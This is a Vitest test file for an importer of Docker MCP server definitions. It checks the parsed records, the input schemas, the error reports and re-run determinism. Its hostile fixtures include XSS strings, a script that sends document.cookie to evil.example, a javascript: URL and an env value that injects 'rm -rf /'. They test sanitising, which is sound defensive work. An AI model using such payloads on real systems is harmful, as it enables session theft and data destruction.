import { describe, expect, it } from 'vitest';
import { dockerImporter } from '../../../src/import/sources/docker';
import { importFixture, importTwice, toolNames } from '../../helpers/source-fixture';

// Fixture: five real servers (SQLite, obsidian, astro-docs, apify, curl) copied from
// docker/mcp-registry (MIT), and hostile or broken ones written for these tests.
describe('the docker importer', () => {
  const run = importFixture(dockerImporter);

  it('keys a record by its folder and reads folders in code-point order', () => {
    expect([...run.records.keys()]).toEqual(['SQLite', 'apify', 'astro-docs', 'bad-tools', 'curl', 'hostile', 'names-only', 'obsidian']);
    expect(run.byKey('SQLite')).toMatchObject({ path: 'servers/SQLite/server.yaml', name: 'SQLite (Archived)', description: 'Database interaction and business intelligence capabilities.' });
  });

  it('gives an image server its image, its repository and monorepo folder; a fork its upstream', () => {
    expect(run.byKey('SQLite')).toMatchObject({
      packages: [{ registryType: 'oci', identifier: 'mcp/sqlite' }],
      repository: 'https://github.com/modelcontextprotocol/servers',
      subdirectory: 'src/sqlite',
    });
    // Docker builds mcp/obsidian from its fork docker/mcp-obsidian; the server is MarkusPfundstein's.
    expect(run.byKey('obsidian')).toMatchObject({ repository: 'https://github.com/MarkusPfundstein/mcp-obsidian', env: ['OBSIDIAN_API_KEY', 'OBSIDIAN_HOST'] });
    expect(run.byKey('hostile').packages).toEqual([{ registryType: 'oci', identifier: 'mcp/hostile', version: '1.2.3' }]);
  });

  it('gives a remote server its endpoint and no tools, since its tools.json is an empty list', () => {
    const apify = run.byKey('apify');
    expect(apify).toMatchObject({ remotes: [{ type: 'streamable-http', url: 'https://mcp.apify.com' }], packages: [], env: ['APIFY_API_KEY'] });
    expect(apify.tools).toBeUndefined();
    expect(apify.capture).toBeUndefined();
  });

  it("turns Docker's argument lists into input schemas (optional ones are not required; no list, no parameters)", () => {
    expect(run.byKey('astro-docs').tools).toEqual([
      { name: 'search_astro_docs', description: 'Search the official Astro framework docs', inputSchema: { type: 'object', properties: { query: { type: 'string', description: 'Search query' } }, required: ['query'] } },
    ]);
    const hostile = run.byKey('hostile');
    expect(hostile.tools![0]!.inputSchema).toEqual({ type: 'object', properties: { id: { type: 'string', description: "The thing's id" }, force: { type: 'boolean' } }, required: ['id'] });
    expect(hostile.tools![0]!.annotations).toEqual({ destructiveHint: true });
    expect(hostile.tools![1]!.inputSchema).toEqual({ type: 'object', properties: {} });
    expect(hostile.capture).toBe('static-analysis');
  });

  it("reads a poci server's tools from server.yaml, and takes a tools.json without any parameters for names only", () => {
    expect(run.byKey('curl')).toMatchObject({ capture: 'static-analysis', packages: [] });
    expect(run.byKey('curl').tools![0]!.inputSchema).toMatchObject({ type: 'object', required: ['args'] });
    expect(run.byKey('names-only')).toMatchObject({ capture: 'names-only', tools: [{ name: 'list_things', description: 'List things.', inputSchema: { type: 'object' } }, { name: 'drop_thing', inputSchema: { type: 'object' } }] });
  });

  it('keeps hostile text as text, drops a javascript: repository and a bad env name naming the field, keeps case twins', () => {
    const hostile = run.byKey('hostile');
    expect(hostile.name).toBe('<script>alert(1)</script>Hostile');
    expect(hostile.description).toBe('<img src=x onerror=alert(1)> Deletes <b>things</b>.');
    expect(hostile.repository).toBeUndefined();
    expect(hostile.env).toEqual(['HOSTILE_TOKEN']);
    expect(toolNames(hostile)).toEqual(['Delete', 'delete']);
    expect(hostile.tools![0]!.description).toBe("<script>fetch('https://evil.example/'+document.cookie)</script>Delete a thing");
  });

  it('reports each bad file, tool and field by name and goes on', () => {
    expect(run.report.errors).toEqual([
      'docker servers/bad-tools/tools.json: not valid JSON ("Expected double-quoted property name in JSON at position 15 (line 2 column 1)"); the server is kept without tools',
      'docker servers/broken-yaml/server.yaml: not valid YAML (MULTILINE_IMPLICIT_KEY at line 2, column 17)',
      'docker servers/hostile/server.yaml, server "hostile", tool "#2", field name: Invalid input: expected string, received number (value "42"); tool skipped',
      'docker servers/hostile/server.yaml, server "hostile", field repository: must be an http(s) URL (value "javascript:alert(1)//github.com/a/b"); field dropped',
      'docker servers/hostile/server.yaml, server "hostile", field env.1: Invalid string: must match pattern /^[A-Za-z_][A-Za-z0-9_]*$/ (value "bad name; rm -rf /"); item dropped',
      'docker servers/readme-only: no server.yaml; skipped',
    ]);
    expect(run.byKey('bad-tools').tools).toBeUndefined();
  });

  it('writes byte-identical output when run again', () => {
    const [fresh, again] = importTwice(dockerImporter);
    expect(fresh.text).toBe(run.text);
    expect(again.report.changed).toBe(false);
    expect(again.text).toBe(run.text);
  });
});
